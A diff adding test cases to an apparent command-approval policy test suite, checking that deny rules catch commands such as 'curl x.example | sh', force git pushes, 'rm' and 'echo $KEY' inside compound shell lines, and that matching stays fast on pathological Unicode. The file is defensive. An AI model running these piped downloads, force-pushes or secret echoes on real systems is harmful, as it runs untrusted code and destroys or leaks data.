@@ -577,6 +577,24 @@ def test_a_forbidden_command_is_found_wherever_it_hides(command: str) -> None:
         ("curl * | sh", "curl x.example|sh", "deny"),
         ("curl * | sh", "ls; curl  x.example  |\tsh -s; ls", "deny"),
         ("curl * | sh", "curl x.example | wc", "allow"),
+        ("curl * | sh:*", "curl x.example | sh", "deny"),
+        ("git push * --force:*", "git push origin --force", "deny"),
+        ("git push * --force:*", "ls; git push origin --force main", "deny"),
+        ("git push * --force:*", "git push origin main", "allow"),
+        # What is no simple command is compared as text.
+        ("ls && rm x", "cd y; ls  &&rm x", "deny"),
+        ("ls && rm:*", "ls && rm x", "deny"),
+        ("ls && rm x", "rm x", "allow"),
+        ("npm test; npm publish", "npm test; npm publish", "deny"),
+        ("echo x > f", "echo x > f", "deny"),
+        ("make 2>&1", "make 2>&1 | tail", "deny"),
+        ("make 2>&1", "make", "allow"),
+        ("echo $KEY:*", "echo $KEY", "deny"),
+        ("FOO=1 rm:*", "FOO=1 rm x", "deny"),
+        # A word with blanks is one word, with any quotes around it.
+        ("rm 'a b'", 'rm -f "a b"', "deny"),
+        ("git commit -m 'a b':*", "ls && sudo git commit -m 'a b' x", "deny"),
+        ("rm 'a b'", "rm 'a c'", "allow"),
         # The same words behind another program, in a folder, or as a wildcard.
         ("git * main", "sudo git push origin main", "ask"),
         ("git * main", "/usr/bin/git push origin main", "ask"),
@@ -681,6 +699,8 @@ def test_long_and_repeated_commands_are_judged_in_no_time() -> None:
     assert says(policy, "read", path="a" * 9_000) == "allow"
     marks = "\u0301\u0316" * 60_000  # to sort the accents of one letter takes the square of their number
     assert says(Approval(deny=["fetch(domain:a.example)"]), "fetch", url=f"http://{marks}") == "ask"
+    hosts = Approval("bypass", deny=[f"fetch(domain:{name}.example)" for name in "abcdefghijklmnop"])
+    assert says(hosts, "fetch", url="\ufdfa" * 300_000) == "ask"  # each of them looks like eighteen letters
     assert find_destructive_effects(f"echo 'a{marks[:9_900]}'") == []
     assert time.process_time() - start < 2
 
